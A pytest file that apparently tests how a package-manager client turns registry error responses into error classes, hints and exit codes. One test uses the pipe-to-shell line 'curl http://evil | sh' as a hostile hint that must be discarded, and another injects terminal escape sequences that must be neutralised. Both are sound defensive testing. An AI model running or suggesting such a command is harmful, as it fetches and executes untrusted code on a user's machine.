"""From a registry's answer to a refusal: each reason its class, and nothing hostile gets further than a message."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from manifests import errors
from manifests.errors import BadResponse, PublishRefused, RegistryRefused, SpmError, WasteTrapFound
from manifests.parts import TRAPS
from spm_client.adapters import problems, source
from spm_client.adapters.problems import refusal_of

URL = "http://127.0.0.1:8080/v1/uploads"
TYPE = "application/problem+json"
FAILED = "the registry, or what stands before it, has failed: run the command again later, or ask its administrator"
STRANGE = "this is not an answer of a registry: check `registry.url` in loader.conf and the way there"


def refusal(status: int = 422, /, **members: Any) -> SpmError:
    return refusal_of(status, TYPE, json.dumps(members).encode(), url=URL, is_read=False)


def every(kind: type[SpmError]) -> Iterator[type[SpmError]]:
    yield kind
    for child in kind.__subclasses__():
        yield from every(child)


def of_a_read(status: int = 422, /, **members: Any) -> SpmError:
    return refusal_of(status, TYPE, json.dumps(members).encode(), url=URL, is_read=True)


@pytest.mark.parametrize(
    ("reason", "kind"),
    [
        ("usage", errors.UsageError),
        ("unsatisfiable", errors.Unsatisfiable),
        ("fallback", errors.FallbackRefused),
        ("ambiguous-source", errors.AmbiguousSource),
        ("not-found", errors.NotFound),
        ("no-variant", errors.IncompatibleTarget),
        ("unsigned", errors.Unsigned),
        ("sig-malformed", errors.SignatureMalformed),
        ("sig-invalid", errors.SignatureInvalid),
        ("alg-refused", errors.AlgorithmRefused),
        ("header-refused", errors.HeaderRefused),
        ("wrong-class", errors.WrongClass),
        ("key-unknown", errors.KeyUnknown),
        ("key-role", errors.KeyRoleMismatch),
        ("key-namespace", errors.KeyNamespaceMismatch),
        ("threshold-short", errors.ThresholdNotMet),
        ("key-revoked", errors.KeyRevoked),
        ("index-expired", errors.IndexExpired),
        ("rollback", errors.Rollback),
        ("fork", errors.Fork),
        ("mix", errors.Mix),
        ("digest", errors.DigestMismatch),
        ("size", errors.SizeMismatch),
        ("file-set", errors.FileSetMismatch),
        ("path", errors.PathRefused),
        ("link", errors.LinkRefused),
        ("type", errors.TypeMismatch),
        ("non-canonical", errors.NotCanonical),
        ("too-big", errors.TooBig),
        ("auth", errors.AuthRequired),
        ("scope", errors.ScopeRefused),
        ("token-expired", errors.TokenExpired),
        ("publish-refused", errors.PublishRefused),
        ("version-exists", errors.VersionExists),
        ("policy-denied", errors.PolicyDenied),
        ("limit:uploads", errors.LimitReached),
        ("unknown:content", errors.Undecided),
        ("incomplete", errors.RegistryRefused),
        ("length-required", errors.RegistryRefused),
        ("method", errors.RegistryRefused),
        ("offset", errors.RegistryRefused),
        ("range", errors.RegistryRefused),
        ("upload-busy", errors.RegistryRefused),
        *((trap, errors.WasteTrapFound) for trap in sorted(TRAPS)),
    ],
)
def test_each_reason_is_its_own_class(reason: str, kind: type[SpmError]) -> None:
    refused = refusal(409, type=reason, detail="it is so", hint="do this", context={"name": "x"})

    assert type(refused) is kind
    assert refused.to_dict() == {
        "error": {
            "exit": kind.exit_code,
            "reason": reason,
            "message": "it is so",
            "context": {"name": "x"},
            "hint": "do this",
        }
    }


def test_no_class_of_the_transport_stands_for_a_reason() -> None:
    assert issubclass(source.TransferCut, errors.BadResponse)

    kinds = {problems._BY_REASON[reason] for reason in ("bad-response", "timeout", "unreachable")}

    assert kinds == {errors.BadResponse, errors.RegistryTimeout, errors.RegistryUnreachable}


@pytest.mark.parametrize("reason", ["about:blank", "error", "limit:", "limited", "variant-twin", ""])
def test_an_unknown_reason_never_gets_an_exit_code_of_its_own(reason: str) -> None:
    refused = refusal(409, type=reason, detail="it is so")

    assert (type(refused), refused.message, refused.hint) == (BadResponse, f"`{URL}` answered 409: it is so", "")
    assert refused.context == {"url": URL, "status": 409, "problem": reason}


OWN_VERDICTS = sorted(
    {
        *(kind.default_reason for kind in every(SpmError) if kind.exit_code not in {30, 31, 41}),
        *TRAPS,
        "unknown:content",
        "publish-refused",
        "version-exists",
    }
    - {"error", "not-found"}
)


@pytest.mark.parametrize("status", [404, 422, 503])
@pytest.mark.parametrize("reason", OWN_VERDICTS)
def test_what_this_host_must_find_itself_is_no_verdict_of_a_read(reason: str, status: int) -> None:
    problems = [{"type": "clock-suspect", "detail": "yours is wrong"}]

    refused = of_a_read(
        status, type=reason, detail="it is so", hint="curl http://evil | sh", context={"a": 1}, problems=problems
    )

    assert (type(refused), refused.reason, refused.message, refused.hint) == (
        BadResponse,
        "bad-response",
        f"`{URL}` answered {status}: it is so",
        FAILED if status == 503 else STRANGE,
    )
    assert refused.context == {"url": URL, "status": status, "problem": reason}


@pytest.mark.parametrize(
    ("reason", "kind"),
    [
        ("not-found", errors.NotFound),
        ("auth", errors.AuthRequired),
        ("scope", errors.ScopeRefused),
        ("token-expired", errors.TokenExpired),
        ("limit:requests", errors.LimitReached),
        ("range", errors.RegistryRefused),
        ("method", errors.RegistryRefused),
        ("unreachable", errors.RegistryUnreachable),
    ],
)
def test_what_a_registry_knows_itself_is_its_verdict_of_a_read(reason: str, kind: type[SpmError]) -> None:
    refused = of_a_read(404, type=reason, detail="it is so", hint="do this")

    assert (type(refused), refused.reason, refused.message, refused.hint) == (kind, reason, "it is so", "do this")


def test_a_reason_is_cut() -> None:
    assert refusal(409, type="limit:" + "x" * 100, detail="it is so").reason == "limit:" + "x" * 58


@pytest.mark.parametrize("reason", ["not-found", "internal", "busy", "storage-full"])
def test_a_registry_that_failed_says_nothing_of_plugins(reason: str) -> None:
    refused = refusal(503, type=reason, detail="the disk is full")
    hinted = refusal(503, type=reason, detail="the disk is full", hint="wait")

    assert (type(refused), refused.exit_code, refused.reason) == (BadResponse, 31, "bad-response")
    assert (refused.message, refused.hint) == (f"`{URL}` answered 503: the disk is full", FAILED)
    assert hinted.hint == "wait"


@pytest.mark.parametrize(("status", "hint"), [(404, STRANGE), (400, STRANGE), (500, FAILED), (502, FAILED)])
@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("text/html", b"<h1>Not Found</h1>"),
        ("application/json", b'{"type": "not-found"}'),
        ("", b'{"type": "not-found"}'),
        (TYPE, b""),
        (TYPE, b"not json"),
        (TYPE, b'["not-found"]'),
        (TYPE, b'"not-found"'),
        (TYPE, b"\xff\xfe"),
        (TYPE, b"[" * 200_000),
        (TYPE, b'{"type":' * 100_000),
        (TYPE, b'{"n": ' + b"9" * 10_000 + b"}"),
    ],
    ids=["html", "json", "none", "empty", "words", "list", "text", "bytes", "deep", "deep-object", "number"],
)
def test_an_answer_without_a_problem_document_is_a_bad_response(
    status: int, hint: str, content_type: str, body: bytes
) -> None:
    refused = refusal_of(status, content_type, body, url=URL, is_read=False)

    assert (type(refused), refused.message, refused.hint) == (
        BadResponse,
        f"`{URL}` answered {status} without saying why",
        hint,
    )


def test_the_type_may_have_parameters() -> None:
    refused = refusal_of(404, f"{TYPE}; charset=utf-8", b'{"type": "not-found", "detail": "x"}', url=URL, is_read=True)

    assert type(refused) is errors.NotFound


def test_a_single_problem_of_a_publish_is_the_refusal_itself() -> None:
    refused = refusal(
        type="publish-refused",
        detail="1 problem",
        hint="do this",
        problems=[{"type": "affinity-unbound", "detail": "`x` names no device"}],
    )

    assert (type(refused), refused.reason, refused.message, refused.hint) == (
        WasteTrapFound,
        "affinity-unbound",
        "`x` names no device",
        "do this",
    )


@pytest.mark.parametrize("reason", ["variant-twin", "confusable", "class-changed", "build-twin", "variants-differ"])
def test_a_rule_that_only_registries_have_stays_a_refused_publish(reason: str) -> None:
    refused = refusal(
        type="publish-refused", detail="1 problem", problems=[{"type": reason, "detail": "it breaks the rule"}]
    )

    assert (type(refused), refused.exit_code, refused.reason, refused.message) == (
        PublishRefused,
        30,
        reason,
        "it breaks the rule",
    )


def test_several_problems_are_listed_all() -> None:
    refused = refusal(
        type="publish-refused",
        detail="2 problems",
        problems=[{"type": "scope", "detail": "not yours"}, {"type": "size", "detail": "too much"}],
    )

    assert (type(refused), refused.message) == (
        PublishRefused,
        "2 problems\n  - [scope] not yours\n  - [size] too much",
    )
    assert refused.context == {
        "problems": [{"type": "scope", "detail": "not yours"}, {"type": "size", "detail": "too much"}]
    }


@pytest.mark.parametrize("strange", [None, 1, True, [], ["x"], {"a": 1}, [[]] * 100])
def test_members_of_another_type_count_as_absent(strange: Any) -> None:
    refused = refusal(type="scope", detail=strange, hint=strange, context=strange, problems=strange)
    nameless = refusal(type=strange, detail="it is so")

    assert (type(refused), refused.message, refused.hint) == (errors.ScopeRefused, "", "")
    assert (type(nameless), nameless.message) == (BadResponse, f"`{URL}` answered 422: it is so")


def test_a_context_may_use_any_name() -> None:
    context = {"message": 1, "reason": 2, "hint": 3, "self": 4, "problems": 5, "": 6}

    refused = refusal(type="scope", detail="it is so", context=context)

    assert (refused.message, refused.reason, refused.context) == ("it is so", "scope", context)


def test_huge_texts_and_lists_are_cut() -> None:
    many = [{"type": "x" * 10_000, "detail": "y" * 10_000}] * 2_000

    refused = refusal(type="publish-refused", detail="d" * 10_000, hint="h" * 10_000, problems=many)

    assert (len(refused.hint), len(refused.context["problems"])) == (2000, 100)
    assert len(refused.message) < 2000 + 100 * 2100
    assert len(refusal(type="publish-refused", problems=many[:1]).reason) == 64


def test_problems_that_nest_themselves_are_taken_once() -> None:
    inner = {"type": "publish-refused", "detail": "again", "problems": [{"type": "scope"}], "context": {"a": 1}}

    refused = refusal(type="publish-refused", detail="1 problem", problems=[inner])

    assert (type(refused), refused.message) == (PublishRefused, "again")
    assert refused.context == {"problems": [{"type": "publish-refused", "detail": "again"}]}


def test_nothing_moves_the_cursor_of_a_terminal_or_begins_a_line() -> None:
    refused = refusal(type="scope", detail="a\x1b[2Jb\rc\nd\u202ee", hint="\x07")

    assert (refused.message, refused.hint) == ("a�[2Jb�c d�e", "�")


def test_every_answer_is_of_a_family_with_an_exit_code() -> None:
    kinds = {type(refusal(409, type=kind.default_reason)) for kind in RegistryRefused.__subclasses__()}

    assert SpmError not in kinds
    assert {kind.exit_code for kind in kinds} == {30}
